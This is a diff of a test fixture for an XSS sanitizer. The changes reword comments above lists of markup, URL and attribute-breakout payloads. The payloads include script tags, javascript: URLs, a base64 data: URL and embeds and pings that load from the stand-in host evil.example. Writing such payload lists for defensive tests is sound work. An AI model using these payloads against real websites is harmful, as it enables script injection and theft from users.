@@ -1,8 +1,8 @@
-/** What an attack does when it succeeds: tests look for the mark, and for requests to the host. */
+/** The effect of a successful attack: tests look for this mark, and for requests to the host. */
 const run = "window.__xss=1";
 const host = "evil.example";
 
-/** Markup that would run code, fetch something, or take the page over. */
+/** Markup that would run code, load something, or take over the page. */
 const markup = [
   `<script>${run}</script>`,
   `<SCRIPT>${run}</SCRIPT>`,
@@ -99,7 +99,7 @@ const markup = [
   `<object data="https://${host}/x.swf" type="application/x-shockwave-flash"></object>`,
   `<object data="data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX194c3M9MTwvc2NyaXB0Pg=="></object>`,
   `<embed src="javascript:${run}">`,
-  // A picture of another host would be a picture like any other.
+  // A picture of another host would be an ordinary picture.
   `<embed src="https://${host}/x.html" type="text/html" onload=${run}>`,
   `<oembed url="javascript:${run}"></oembed>`,
   `<oembed url="https://${host}/" onclick=${run}>x</oembed>`,
@@ -182,7 +182,7 @@ const markup = [
   `<a href="https://example.org/" ping="https://${host}/" target=_self rel=opener download>x</a>`,
 ];
 
-/** Addresses that would run code, or reach what no page should. None is plain http(s): those are addresses like others. */
+/** Addresses that would run code, or reach forbidden places. None is plain http(s): those are ordinary addresses. */
 const addresses = [
   `javascript:${run}`,
   `JaVaScRiPt:${run}`,
@@ -234,7 +234,7 @@ const addresses = [
   `https://%zz`,
 ];
 
-/** Texts that would leave the place they are put in: an attribute, a style, a template, a message, an object. */
+/** Texts that would escape their context: an attribute, a style, a template, a message, an object. */
 const texts = [
   `" onmouseover="${run}`,
   `' onmouseover='${run}`,
@@ -268,5 +268,5 @@ const texts = [
   `../../../app/myaccount`,
 ];
 
-/** Attacks for every field that the server fills: each is tried in each kind of field. */
+/** Attacks for every server field: each is tried in each kind of field. */
 export const xssPayloads = { markup, addresses, texts, all: [...markup, ...addresses, ...texts] };
